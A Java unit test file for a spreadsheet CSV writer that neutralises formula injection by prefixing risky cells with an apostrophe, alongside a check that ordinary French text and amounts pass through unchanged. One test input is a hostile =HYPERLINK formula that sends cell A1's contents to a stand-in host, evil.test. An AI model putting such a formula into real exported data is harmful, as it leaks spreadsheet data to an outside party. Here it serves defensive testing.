package coop.occe.retkoop.platform;

import java.io.StringWriter;
import java.math.BigDecimal;

import coop.occe.retkoop.shared.Money;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** What users typed reaches a spreadsheet as text, never as a formula. */
class SpreadsheetCsvTests {

	@Test
	void textsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
		assertThat(write("=HYPERLINK(\"https://evil.test/?\"&A1;\"Cliquez\")", "+33 5 65", "-2+3", "@SUM(A1)", "\tcmd",
				"\r=1+1", "\uFF1D1+1"))
			.isEqualTo("\uFEFF\"'=HYPERLINK(\"\"https://evil.test/?\"\"&A1;\"\"Cliquez\"\")\";'+33 5 65;'-2+3;"
					+ "'@SUM(A1);'\tcmd;\"'\r=1+1\";'\uFF1D1+1\r\n");
	}

	@Test
	void ordinaryTextsAndNumbersAreWrittenAsTheyAre() throws Exception {
		assertThat(write("Kermesse", "l'école", "", null, Money.of("-12.5"), new BigDecimal("140.30"), 57,
				"6068 : 50,00 ; 6251 : 30,00"))
			.isEqualTo("\uFEFFKermesse;l'école;;;-12,50;140,30;57;\"6068 : 50,00 ; 6251 : 30,00\"\r\n");
	}

	private static String write(Object... cells) throws Exception {
		StringWriter out = new StringWriter();
		try (SpreadsheetCsv csv = SpreadsheetCsv.on(out)) {
			csv.row(cells);
		}
		return out.toString();
	}

}
